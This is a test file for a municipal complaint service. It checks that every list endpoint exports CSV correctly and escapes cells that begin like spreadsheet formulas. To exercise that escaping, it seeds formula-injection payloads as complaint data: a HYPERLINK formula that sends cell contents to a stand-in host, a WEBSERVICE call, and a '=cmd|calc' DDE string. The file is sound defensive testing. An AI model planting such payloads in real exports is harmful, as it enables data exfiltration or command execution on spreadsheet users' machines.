import { roles } from '@tuntas/kernel';
import { TestApp, type TestResponse } from '../../kit/app.js';
import { casesIn } from '../../kit/cases.js';
import { complaintsIn } from '../../kit/complaints.js';
import { untilNothingToSend } from '../../kit/messages.js';
import { operationsOf, type DescribedOperation } from '../../kit/operations.js';
import { strictRows } from '../../kit/strict-csv.js';
import { openApiOf } from '../../kit/openapi.js';
import type { Page } from '../../kit/response-body.js';

const readers = [
  ...roles.filter(role => role !== 'officer' && role !== 'office_head'),
  'officer:PUPR',
  'office_head:PUPR',
  'officer:DLH',
  'integrator::lapor',
];
const csv = { accept: 'text/csv' };
const hostile = [
  '=HYPERLINK("http://x.example/?"&A1;"klik")',
  '+62 811 tidak diangkat',
  '@SUM(1;2) tiap hari',
  '-- tolong, "segera"\r\n=1+1',
  '＝1+1 memakai huruf lebar',
  'Dua baris\nsaja',
  'Dua baris\rsaja',
];

/** The apostrophes that CSV adds before text that a spreadsheet would evaluate. */
const apostrophes = /(^|[;\t\r\n]\s*"?|^\s+)'(?=[=+\-@\t\r＝＋－＠])/g;
const isObject = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);
/** The JSON value under the name of a column, as text. A missing value gives the empty string. */
const textOf = (item: unknown, column: string): string => {
  const value = column.split('.').reduce((part, name) => (isObject(part) ? part[name] : undefined), item);
  if (value === null || value === undefined) return '';
  if (Array.isArray(value) && value.every(part => typeof part !== 'object')) return value.join('; ');
  return typeof value === 'object' ? JSON.stringify(value) : String(value);
};
/** The remaining time of a clock changes all the time. */
const withoutRemainingTime = (text: string): string => (/^PT[\dHMS.]+$/.test(text) ? 'PT' : text);
/** The paths of all leaves of an item, except inside a column that holds a whole object. */
const leafPaths = (item: unknown, columns: ReadonlySet<string>, above = ''): string[] =>
  columns.has(above) || !isObject(item)
    ? [above]
    : Object.entries(item).flatMap(([name, value]) =>
        leafPaths(value, columns, above === '' ? name : `${above}.${name}`),
      );

describe('CSV of every list', () => {
  let city: TestApp;
  let lists: DescribedOperation[];
  let ids: string[];
  const { resolved, staff } = complaintsIn(() => city);
  const { opened, broughtTo } = casesIn(() => city);

  beforeAll(async () => {
    city = await TestApp.start({ at: '2026-03-02T09:00:00+08:00' });
    for (const subject of hostile) await city.lodge({ subject });
    const lodged = [
      await city.lodge({
        externalReferences: [{ system: 'lapor', id: '9165816' }],
        vulnerableGroups: ['elderly', 'poor'],
      }),
      await city.lodge({ category: 'waste.collection', channel: 'web', counter: null }, { as: 'integrator::lapor' }),
      await city.lodge({
        category: 'conduct.illegal_levy',
        allegedMaladministration: ['demand_for_payment', 'undue_delay'],
      }),
      await city.lodge(
        { category: null, consentToOmbudsman: false, channel: 'whatsapp', counter: null, location: null },
        { as: 'coordinator' },
      ),
      await resolved(),
    ];
    await staff(lodged[0]!.id, 'acceptance');
    await staff(lodged[0]!.id, 'internal-notes', { text: '=1+1 catatan;-2' });
    expect(
      (
        await city.post(
          `/v1/complaints/${lodged[0]!.id}/escalation`,
          { level: 1, reason: '=WEBSERVICE("http://x.example")\nbaris kedua, lalu\rbaris ketiga' },
          { as: 'coordinator' },
        )
      ).status,
    ).toBe(200);
    for (const kase of await opened(2)) await broughtTo(kase, 'report');
    await city.advance('P45D');
    await untilNothingToSend(city);
    await city.sql(
      `INSERT INTO eventlog.parked (consumer, event_id, position, subject, type, envelope, data, reason, attempts)
       SELECT 'routing', event_id, position, subject, type, envelope, data, '=cmd|calc', 20
       FROM eventlog.log
       ORDER BY position
       LIMIT 3`,
    );
    const document = await openApiOf(city);
    const schemaOf = ({ entry }: DescribedOperation) => {
      const schema = entry.responses[200]?.content?.['application/json']?.schema;
      return schema?.$ref ? document.components.schemas[schema.$ref.split('/').at(-1)!] : schema;
    };
    lists = (await operationsOf(city)).filter(
      operation => operation.method === 'GET' && schemaOf(operation)?.properties?.items?.type === 'array',
    );
    ids = lodged.map(({ id }) => id);
  });
  afterAll(() => city.stop());

  /** The addresses of a list: one, or one per complaint for some complaints. */
  const addressesOf = ({ path }: DescribedOperation): string[] =>
    path.includes('{id}') ? ids.map(id => path.replace('{id}', id)) : [path];
  const itemsOf = async (
    path: string,
    as: string,
    query = '',
    limit = 7,
  ): Promise<TestResponse & { items: object[] }> => {
    const items: object[] = [];
    for (let next: string | null = ''; ;) {
      const answer = await city.get(`${path}?limit=${limit}${query}${next && `&cursor=${next}`}`, { as });
      if (answer.status !== 200) return { ...answer, items: [] };
      const page = answer.body as Page;
      items.push(...page.items);
      next = page.next;
      if (next === null) return { ...answer, items };
    }
  };
  /** Checks that the CSV has the items of all pages and nothing else. */
  const expectSame = ({ text }: TestResponse, items: readonly object[]): void => {
    const rows = strictRows(text);
    expect(rows).toHaveLength(items.length);
    const columns = new Set(text.split('\r\n')[0]!.split(','));
    for (const [n, row] of rows.entries()) {
      const item = items[n]!;
      expect(
        Object.fromEntries(
          Object.entries(row).map(([column, cell]) => [column, withoutRemainingTime(cell.replace(apostrophes, '$1'))]),
        ),
      ).toEqual(Object.fromEntries([...columns].map(column => [column, withoutRemainingTime(textOf(item, column))])));
      // A null object has no leaves: its columns are empty.
      expect(leafPaths(item, columns).filter(place => !columns.has(place) && textOf(item, place) !== '')).toEqual([]);
    }
  };

  test('is declared for every list in the OpenAPI document', () => {
    expect(lists.length).toBeGreaterThanOrEqual(12);
    expect(lists.filter(({ entry }) => !entry.responses[200]!.content!['text/csv']).map(({ name }) => name)).toEqual(
      [],
    );
    const examples = lists.map(({ entry }) => [
      strictRows(entry.responses[200]!.content!['text/csv']!.example as string).length,
      (entry.responses[200]!.content!['application/json']!.example as Page).items.length,
    ]);
    expect(examples.every(([rows, items]) => rows! > 0 && rows === items)).toBe(true);
  });

  test.each(readers)('gives %s the rows of the pages and no more', async as => {
    let [read, refused] = [0, 0];
    for (const list of lists)
      for (const path of addressesOf(list)) {
        const { items, status } = await itemsOf(path, as);
        const answer = await city.get(path, { as, headers: csv });
        expect([path, answer.status, answer.headers.get('content-type')!.split(';')[0]]).toEqual([
          path,
          status,
          status === 200 ? 'text/csv' : 'application/problem+json',
        ]);
        if (status !== 200) {
          refused += 1;
          continue;
        }
        expectSame(answer, items);
        read += items.length;
      }
    expect(read).toBeGreaterThan(80); // only lists that every role may read
    if (as !== 'coordinator') expect(refused).toBeGreaterThan(0);
  });

  test.each([
    ['/v1/complaints', '&status=assigned&status=in_progress&sort=dueAt'],
    ['/v1/complaints', '&office=PUPR&sort=-dueAt'],
    ['/v1/complaints', '&breached=true'],
    ['/v1/complaints', '&escalationLevel=3'],
    ['/v1/sla/clocks', '&status=breached&sort=-dueAt'],
    ['/v1/sla/clocks', '&name=resolution&office=PUPR'],
    ['/v1/escalations', '&level=1&status=open'],
    ['/v1/ombudsman/cases', '&stage=report'],
  ])('of %s with %s keeps filters and order', async (path, query) => {
    const { items } = await itemsOf(path, 'auditor', query);
    expect(items.length).toBeGreaterThan(0);
    expectSame(await city.get(`${path}?${query.slice(1)}`, { as: 'auditor', headers: csv }), items);
  });

  test('escapes cells that begin like a formula', async () => {
    const cells: string[] = [];
    for (const list of lists)
      for (const path of addressesOf(list))
        for (const as of ['coordinator', 'admin', 'ombudsman', 'auditor', 'officer:PUPR']) {
          const { status, text } = await city.get(path, { as, headers: csv });
          if (status === 200)
            cells.push(...strictRows(text).flatMap(row => Object.values(row)), ...text.split(/[;\t\r\n]/));
        }
    expect(cells.filter(cell => /^[\s"]*[=+\-@＝＋－＠]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
    // The texts are present.
    const all = cells.join('\n');
    for (const text of [
      'HYPERLINK',
      '62 811 tidak diangkat',
      'memakai huruf lebar',
      'WEBSERVICE',
      'cmd|calc',
      '1+1 catatan',
    ])
      expect(all).toContain(text);
  });

  test('has local times for people in every column of instants', async () => {
    let times = 0;
    for (const list of lists)
      for (const path of addressesOf(list))
        for (const as of ['coordinator', 'admin']) {
          const { status, text } = await city.get(path, {
            as,
            headers: { accept: 'text/csv; header=present; profile=excel' },
          });
          if (status !== 200) continue;
          // Decoding to text removes the byte order mark. Another test checks the bytes.
          const rows = strictRows(text.replace(/^\ufeff/, ''));
          const machine = strictRows((await city.get(path, { as, headers: csv })).text);
          expect(rows).toHaveLength(machine.length);
          for (const [n, row] of rows.entries())
            for (const [name, value] of Object.entries(row)) {
              const column = name.replace(/ \(WITA\)$/, '');
              if (column === name) {
                expect([path, name, /^\d{4}-\d\d-\d\dT/.test(value)]).toEqual([path, name, false]);
                continue;
              }
              if (value === '') continue;
              times += 1;
              expect([path, name, value.length, Date.parse(`${value.replace(' ', 'T')}+08:00`)]).toEqual([
                path,
                name,
                19,
                Math.floor(Date.parse(machine[n]![column]!) / 1_000) * 1_000,
              ]);
            }
        }
    expect(times).toBeGreaterThan(100);
  }, 60_000);

  test('contains no identity, and no text for roles that read none', async () => {
    for (const list of lists)
      for (const path of addressesOf(list))
        for (const as of readers) {
          const { text } = await city.get(path, { as, headers: csv });
          expect([path, as, /Siti|6371046505800001|81234567890/.exec(text)]).toEqual([path, as, null]);
          if (as === 'auditor' || as === 'sla_operator')
            expect([path, as, /HYPERLINK|Jalan berlubang di depan|WEBSERVICE|1\+1 catatan/.exec(text)]).toEqual([
              path,
              as,
              null,
            ]);
        }
  });

  test('uses the requested language and names the file after its content', async () => {
    const path = `/v1/complaints/${ids[0]}/timeline`;
    const localizedRows = async (language: string) =>
      strictRows(
        (await city.get(path, { as: 'coordinator', headers: { ...csv, 'accept-language': language } })).text,
      )[0]!['by.who'];
    expect([await localizedRows('id'), await localizedRows('en')]).toEqual(['Petugas loket', 'Counter clerk']);
    const nameOf = async (at: string) =>
      (await city.get(at, { as: 'auditor', headers: csv })).headers.get('content-disposition');
    expect([await nameOf('/v1/sla/clocks?status=running'), await nameOf(path)]).toEqual([
      'attachment; filename="sla-clocks.csv"',
      `attachment; filename="complaints-${ids[0]}-timeline.csv"`,
    ]);
  });

  test('contains all of several thousand complaints', async () => {
    await city.sql(
      `INSERT INTO queries.cards
        SELECT (jsonb_populate_record(k, jsonb_build_object(
          'complaint_id', gen_random_uuid(), 'ticket', 'BJM-2027-' || n,
          'lodged_at', k.lodged_at + n * interval '1 second'))).*
       FROM queries.cards k, generate_series(1, 3000) AS n WHERE k.complaint_id = $1`,
      [ids[0]],
    );
    const { items } = await itemsOf('/v1/complaints', 'auditor', '', 200);
    expect(items.length).toBeGreaterThan(3_000);
    expectSame(await city.get('/v1/complaints', { as: 'auditor', headers: csv }), items);
  });
});
